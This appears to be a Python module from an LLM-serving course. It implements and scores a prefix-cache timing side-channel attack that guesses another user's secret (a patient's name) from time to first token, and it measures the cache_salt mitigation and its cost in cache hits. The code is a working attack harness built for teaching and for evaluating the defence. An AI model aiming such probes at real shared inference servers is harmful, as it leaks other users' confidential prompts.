"""The prefix cache as a side channel, and the cache salt that closes it (chapter 12).

A server that shares cached blocks between users answers faster when a prompt's prefix is
already cached. An attacker who knows the template of someone else's prompt -- a shared system
prompt, then a sentence naming a secret -- sends one probe per candidate secret and watches the
time to first token (TTFT): the probe that repeats the victim's block finds it in the cache and
skips a whole block of prefill. vLLM's advisory GHSA-4qjh-9fv9-r85r (CVE-2025-46570)
describes this attack; its fix is the per-request ``cache_salt`` that this package also has
(``BlockManager``, ``salt_hash``): requests with different salts never share a block.

This module runs the attack against a real ``LLM`` and scores it:

* ``secret_blocks`` -- one full block per candidate: a known sentence with the name in it;
* ``run_attack`` -- trials of "victim request, then one probe per candidate in random order",
  each probe timed from the client's side and its ``num_cached_tokens`` recorded;
* ``accuracy``, ``wilson_interval``, ``roc_auc`` -- how often the fastest probe is the secret
  (against chance, 1 / candidates), with a 95% interval, and how well TTFT separates the
  secret's probe from the others (0.5: not at all; 1.0: perfectly);
* ``shared_prompt_hit_rates`` -- the price of the fix: the prefix-cache hit rate of a
  shared-system-prompt workload without salts, with one salt per organisation and per user.
"""
from __future__ import annotations

import math
import random
import time
from dataclasses import dataclass

from course_pkg.block_manager import BlockManager
from course_pkg.sampling_params import SamplingParams
from course_pkg.sequence import Sequence

NAMES = ("Alice", "Bob", "Carol", "David", "Erin", "Frank", "Grace", "Heidi",
         "Ivan", "Judy", "Mallory", "Niaj", "Olivia", "Peggy", "Rupert", "Sybil")
TEMPLATE = (" {name} is the patient. The diagnosis that follows is confidential and private, never"
            " to be shared outside the clinic; the notes below are for the treating physician only.")

#: (victim's salt, attacker's salt) per scenario
SCENARIOS: dict[str, tuple[str | None, str | None]] = {
    "no salts": (None, None),
    "one salt per user": ("user-victim", "user-attacker"),
    "one salt per organisation, attacker inside": ("org-clinic", "org-clinic"),
    "one salt per organisation, attacker outside": ("org-clinic", "org-other"),
}


def secret_blocks(tokenizer, block_size: int, names=NAMES, template: str = TEMPLATE) -> list[list[int]]:
    """One block of ``block_size`` tokens per name: the template's first tokens with the name in them.

    The blocks must differ (the name falls inside the block) and be full: a secret in a
    partial block is never registered, so it cannot be probed.
    """
    blocks = []
    for name in names:
        ids = tokenizer.encode(template.format(name=name), add_special_tokens=False)
        if len(ids) < block_size:
            raise ValueError(f"the template gives {len(ids)} tokens for {name!r}, fewer than a block "
                             f"of {block_size}: lengthen it")
        blocks.append(ids[:block_size])
    if len({tuple(b) for b in blocks}) < len(blocks):
        raise ValueError(f"two names give the same first {block_size} tokens: the name must fall "
                         "inside the first block")
    return blocks


@dataclass(frozen=True)
class Probe:
    candidate: int            # index into the candidates
    is_secret: bool
    ttft: float               # seconds, measured by the client around one request
    num_cached_tokens: int    # what the server reports (vLLM reports it too)
    order: int                # 0 = the attacker's first probe of the trial


@dataclass(frozen=True)
class Trial:
    secret: int
    probes: tuple[Probe, ...]

    def guess_by_ttft(self) -> int:
        return min(self.probes, key=lambda p: p.ttft).candidate

    def guess_by_cached_tokens(self, rng: random.Random) -> int:
        """The probe with the most cached tokens; a tie is broken at random (no information)."""
        most = max(p.num_cached_tokens for p in self.probes)
        return rng.choice(sorted(p.candidate for p in self.probes if p.num_cached_tokens == most))


def _prompt(token_ids: list[int], salt: str | None):
    return token_ids if salt is None else {"prompt_token_ids": token_ids, "cache_salt": salt}


def run_attack(llm, blocks: list[list[int]], trials: int, victim_salt: str | None = None,
               attacker_salt: str | None = None, system_blocks: int = 4, seed: int = 0,
               secret_at_end: bool = False) -> list[Trial]:
    """``trials`` rounds of: a victim request (system prompt + the secret's block + private text),
    then one probe per candidate (the same system prompt + the candidate's block + a question).

    Each trial draws a fresh system prompt, so nothing cached by an earlier trial helps a probe
    (the prompts come from ``seed``: give each run on one engine its own seed);
    the secret and the probe order are drawn at random. Probes are sent one at a time, each
    ``max_tokens=1``: its TTFT is the time of the request. ``secret_at_end``: the victim's
    prompt ends inside the secret's block (its first half), which therefore never fills up.
    """
    rng = random.Random(seed)
    bs = llm.block_size
    vocab = llm.config.vocab_size
    first_token = 3          # skip the special tokens at the start of the vocabulary
    params = SamplingParams(temperature=0.0, max_tokens=1, ignore_eos=True)

    def tokens(n):
        return [rng.randrange(first_token, vocab) for _ in range(n)]

    def timed(prompt):
        start = time.perf_counter()
        out = llm.generate([prompt], params, use_tqdm=False)[0]
        return time.perf_counter() - start, out.num_cached_tokens

    results = []
    for _ in range(trials):
        system = tokens(system_blocks * bs)
        secret = rng.randrange(len(blocks))
        victim = blocks[secret][:max(1, bs // 2)] if secret_at_end else blocks[secret] + tokens(bs + 3)
        timed(_prompt(system + victim, victim_salt))
        order = list(range(len(blocks)))
        rng.shuffle(order)
        probes = []
        for k, c in enumerate(order):
            ttft, cached = timed(_prompt(system + blocks[c] + tokens(3), attacker_salt))
            probes.append(Probe(c, c == secret, ttft, cached, k))
        results.append(Trial(secret, tuple(probes)))
    return results


def accuracy(trials: list[Trial], by: str = "ttft", seed: int = 0) -> float:
    """How often the attacker's guess is the secret: ``by="ttft"`` (the fastest probe) or
    ``by="cached_tokens"`` (the most cached tokens reported)."""
    rng = random.Random(seed)
    if by == "ttft":
        hits = sum(t.guess_by_ttft() == t.secret for t in trials)
    elif by == "cached_tokens":
        hits = sum(t.guess_by_cached_tokens(rng) == t.secret for t in trials)
    else:
        raise ValueError(f"by must be 'ttft' or 'cached_tokens', got {by!r}")
    return hits / len(trials)


def wilson_interval(successes: int, n: int, z: float = 1.96) -> tuple[float, float]:
    """The Wilson score interval for a proportion (95% for ``z=1.96``)."""
    if n <= 0:
        raise ValueError(f"n must be positive, got {n}")
    p = successes / n
    centre = (p + z * z / (2 * n)) / (1 + z * z / n)
    half = z * math.sqrt(p * (1 - p) / n + z * z / (4 * n * n)) / (1 + z * z / n)
    # At 0 and n successes the bounds are 0 and 1 exactly (the formula gives them up to rounding).
    return (0.0 if successes == 0 else centre - half), (1.0 if successes == n else centre + half)


def roc_auc(positives: list[float], negatives: list[float]) -> float:
    """P(a positive scores above a negative), ties counting one half (the Mann-Whitney U / n m).

    For TTFT the score is ``-ttft``: the secret's probe should be the faster one.
    """
    if not positives or not negatives:
        raise ValueError("roc_auc needs at least one positive and one negative score")
    ranked = sorted([(s, 1) for s in positives] + [(s, 0) for s in negatives])
    rank_sum, i = 0.0, 0
    while i < len(ranked):       # average ranks over ties
        j = i
        while j < len(ranked) and ranked[j][0] == ranked[i][0]:
            j += 1
        mean_rank = (i + 1 + j) / 2
        rank_sum += mean_rank * sum(label for _, label in ranked[i:j])
        i = j
    n, m = len(positives), len(negatives)
    return (rank_sum - n * (n + 1) / 2) / (n * m)


def ttft_auc(trials: list[Trial]) -> float:
    """ROC AUC of "faster probe = the secret's" over every probe of every trial."""
    return roc_auc([-p.ttft for t in trials for p in t.probes if p.is_secret],
                   [-p.ttft for t in trials for p in t.probes if not p.is_secret])


def shared_prompt_hit_rates(num_orgs: int = 2, users_per_org: int = 4, requests_per_user: int = 6,
                            system_tokens: int = 512, org_tokens: int = 256, user_tokens: int = 128,
                            question_tokens: int = 64, block_size: int = 16, seed: int = 0) -> dict[str, float]:
    """What the salt costs: the prefix-cache hit rate of one workload under three salting rules.

    Every request is a system prompt shared by everyone, then its organisation's instructions,
    then its user's history, then a new question. Served one after another by a
    ``BlockManager`` large enough never to evict, so only the salts decide what is shared.
    """
    rng = random.Random(seed)

    def tokens(n):
        return [rng.randrange(3, 1000) for _ in range(n)]

    system = tokens(system_tokens)
    org_text = [tokens(org_tokens) for _ in range(num_orgs)]
    user_text = {(o, u): tokens(user_tokens) for o in range(num_orgs) for u in range(users_per_org)}
    requests = [(o, u, system + org_text[o] + user_text[o, u] + tokens(question_tokens))
                for _ in range(requests_per_user) for o in range(num_orgs) for u in range(users_per_org)]
    rng.shuffle(requests)
    total = sum(len(r[2]) for r in requests)
    rules = {"no salts": lambda o, u: None,
             "one salt per organisation": lambda o, u: f"org-{o}",
             "one salt per user": lambda o, u: f"user-{o}-{u}"}
    rates = {}
    for rule, salt_of in rules.items():
        bm = BlockManager(total // block_size + len(requests) + 1, block_size)
        for o, u, token_ids in requests:
            seq = Sequence(token_ids, block_size=block_size, cache_salt=salt_of(o, u))
            bm.allocate(seq, bm.can_allocate(seq))
            seq.num_cached_tokens = seq.num_tokens      # the prefill ran
            bm.hash_blocks(seq)
            bm.deallocate(seq)
        rates[rule] = bm.prefix_cache_stats.hit_rate
    return rates
